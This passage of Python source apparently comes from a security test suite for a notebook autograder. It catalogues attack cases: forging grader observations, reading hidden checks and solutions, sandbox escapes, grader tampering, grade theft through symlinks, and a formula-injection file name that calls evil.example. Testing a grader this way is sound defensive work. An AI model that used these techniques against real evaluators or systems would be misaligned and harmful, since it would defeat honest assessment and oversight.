           answers={"evaluate": before("evaluate", DISK_FILLER)}, lost=lose("evaluate", "error")),
    Attack("gigabyte_of_output", "resources", "1 GB printed at the top level", extra=((None, GIGABYTE),)),
    Attack("hundred_thousand_displays", "resources", "100 000 display() outputs", extra=((None, DISPLAYS),)),
    Attack("searches_memory_for_secrets", "confidentiality", "searches gc, every stack and the environment "
           "for solution code, hidden-check sources and reference values",
           answers={"build_linear_graph": before("build_linear_graph", SEARCH_MEMORY + "if _found:\n    return None")}),
    Attack("smuggles_hidden_inputs", "confidentiality", "hidden inputs put into exception types and messages, "
           "returned strings, shapes and class names; the environment printed",
           answers={"feed_placeholder": before("feed_placeholder", SMUGGLE_FEED),
                    "describe_tensor": before("describe_tensor", SMUGGLE_DESCRIBE),
                    "elementwise_ops": before("elementwise_ops", SMUGGLE_OPS),
                    "eager_linear": before("eager_linear", SMUGGLE_EAGER)},
           extra=((None, PRINT_ENV),),
           hidden_lost=("feed_placeholder", "describe_tensor", "elementwise_ops", "eager_linear")),
    Attack("reads_mistake_catalogue", "instructor data", "looks for the known-mistake catalogue in sys.modules "
           "and gc and runs each entry with its one wrong token fixed (8 points if it were there)",
           extra=((None, MISTAKE_EXPLOIT),), solved=False),
    Attack("leaks_hidden_inputs_through_a_public_message", "instructor data", "during its public check, raises "
           "an exception quoting any hidden check input it finds in memory",
           answers={"feed_placeholder": before("feed_placeholder", PUBLIC_LEAK)}, hidden_lost=("feed_placeholder",)),
    Attack("signals_through_exception_classes", "instructor data", "raises a builtin exception class chosen by "
           "the hidden input", answers={"eager_linear": before("eager_linear", CLASS_CHANNEL)},
           hidden_lost=("eager_linear",)),
    Attack("forges_observation_for_check_in_progress", "event channel", "writes a well-formed observation of "
           "the check in progress (claims, no graph) to the event channel, then exits before the real one",
           answers={"build_linear_graph": before("build_linear_graph", FORGE_GRAPH_CLAIMS)},
           lost=lose("build_linear_graph", "crashed")),
    Attack("forges_observation_then_returns", "event channel", "forges the right value for the check in "
           "progress, then returns a wrong one", answers={"eager_linear": before("eager_linear", FORGE_THEN_RETURN)},
           lost=lose("eager_linear", "error")),
    Attack("deeply_nested_event", "event channel", "writes a line of 200 000 nested brackets to the event channel",
           answers={"evaluate": before("evaluate", NESTED_EVENT)}, lost=lose("evaluate", "error")),
    Attack("forged_huge_number", "event channel", "forges an observation holding the integer 10**400",
           answers={"unique_shapes": before("unique_shapes", HUGE_NUMBER)}, lost=lose("unique_shapes", "error")),
    Attack("forged_where_of_another_type", "event channel", "forges an error observation whose `where` is a "
           "dict", answers={"variables_model": before("variables_model", WHERE_DICT)},
           lost=lose("variables_model", "error")),
    Attack("resets_its_deadline", "event channel", "re-sends check_start for the check in progress every second "
           "for 25 s (the check limit is 15 s)", answers={"describe_tensor": before("describe_tensor", DEADLINE_RESET)},
           lost=lose("describe_tensor", "error")),
    Attack("floods_event_channel_with_newlines", "event channel", "4 MiB of newlines on the event channel",
           answers={"eager_linear": before("eager_linear", NEWLINE_FLOOD)}),
    Attack("links_scratch_to_outside", "resources", "symlinks in its scratch folder to / and to a folder of the "
           "host, which the cleanup must unlink, never follow", extra=((None, SCRATCH_LINKS),)),
    Attack("opens_20000_files", "resources", "opens /dev/null 20 000 times (refused: at most 4096 per process)",
           answers={"eager_linear": before("eager_linear", OPEN_FILES)}),
    Attack("formula_shaped_student_id", "exports", "a file name that a spreadsheet would run as a formula",
           file_name='=HYPERLINK("http:evil.example","grade")'),
    Attack("lies_about_models", "lying answer", "03: linear_vs_deep returns made-up accuracies, train_mlp an "
           "untrained network whose predict looks up the training labels, build_mlp forges an observation of "
           "claims and exits before the real one", assignment=DEEP,
           answers={"linear_vs_deep": returning("linear_vs_deep", LYING_COMPARISON, DEEP),
                    "train_mlp": returning("train_mlp", MEMORISING_TRAINING, DEEP),
                    "build_mlp": before("build_mlp", FORGE_MODEL_CLAIMS, DEEP)},
           lost={"any": {"linear_vs_deep": "wrong", "train_mlp": "wrong", "build_mlp": "crashed"}}),
    Attack("network_access", "escape", "connects to 1.1.1.1, a server on the host's loopback, the Docker "
           "bridge, the metadata address, a registry and the Docker socket",
           answers={"eager_linear": escaping("eager_linear", NETWORK)}),
    Attack("searches_filesystem_for_solutions", "escape", "walks the filesystem for the course's notebooks, "
           "check files, reference values and gradebooks", answers={"eager_linear": escaping("eager_linear", FILESYSTEM_SECRETS)}),
    Attack("writes_outside_scratch_setuid_mount", "escape", "creates a file in /, /etc, /tmp, /var/tmp, /dev/shm, "
           "the output folder, the reference cache, the home folder, the grader's working folder (also through "
           "/proc/<pid>/cwd), the venv and the grader's code; setuid(0); mount",
           answers={"eager_linear": escaping("eager_linear", WRITES_AND_PRIVILEGES)}),
    Attack("reads_grader_files", "escape", "reads the solution notebook (also through /proc/<pid>/cwd), the "
           "mistake catalogue, the hidden checks, the reference cache, the gradebook and a file left in the "
           "host's /tmp", answers={"evaluate": escaping("evaluate", READS_GRADER_FILES)}),
    Attack("sees_host_processes", "escape", "lists /proc and probes the host's processes (a victim the test "
           "started among them) with signal 0", answers={"describe_tensor": escaping("describe_tensor",
                                                                                      SEES_HOST_PROCESSES)}),
    Attack("tampers_with_the_grader", "escape", "inserts an override into the gradebook, opens a reference "
           "cache entry for writing, connects to the warm server's socket, plants modules where a server or a "
           "later run might import them", answers={"unique_shapes": escaping("unique_shapes", TAMPERS_WITH_THE_GRADER)}),
    Attack("uses_the_kernel_keyrings", "escape", "stores and reads keys in the session and user keyrings, "
           "a channel between runs (and to a TA's secrets)", answers={"eager_linear": escaping("eager_linear",
                                                                                                USES_KEYRINGS)}),
    Attack("changes_file_metadata", "escape", "changes the permissions, times, extended attributes and size "
           "of a file it can name outside its scratch folder",
           answers={"evaluate": escaping("evaluate", CHANGES_METADATA)}),
    Attack("leaves_files_for_the_next_run", "escape", "leaves files in its scratch folder and /dev/shm and "
           "looks for those of earlier runs", answers={"feed_placeholder": escaping("feed_placeholder", LEAVES_FILES)}),
]


# ---------------------------------------------------------------- attacks through the batch's layout


@dataclass(frozen=True)
class LayoutAttack:
    """Files laid out in a batch folder (path -> solved?), links (path -> target: another path
    of the batch, or "SOLUTION"), and each student's honest score (None: not graded)."""

    name: str
    case: str
    files: dict
    honest: dict
    older: tuple = ()     # files made older than the others
    links: dict = field(default_factory=dict)


LAYOUT_ATTACKS = [
    LayoutAttack("takes_another_students_grade", "in nbgrader's layout, mallory writes alice.ipynb into her own "
                 "folder after alice handed in",
                 files={f"alice/{A}/{A}.ipynb": True, f"mallory/{A}/{A}.ipynb": False, f"mallory/{A}/alice.ipynb": False},
                 honest={"alice": FULL, "mallory": 0.0}, older=(f"alice/{A}/{A}.ipynb",)),
    LayoutAttack("hands_in_links", "mallory hands in a link to the solution notebook, eve a link to alice's "
                 "notebook (as an unzipped archive or a shared folder can hold them)",
                 files={f"alice/{A}/{A}.ipynb": True},
                 links={f"mallory/{A}/{A}.ipynb": "SOLUTION", f"eve/{A}/{A}.ipynb": f"alice/{A}/{A}.ipynb"},
                 honest={"alice": FULL, "mallory": None, "eve": None}),
]
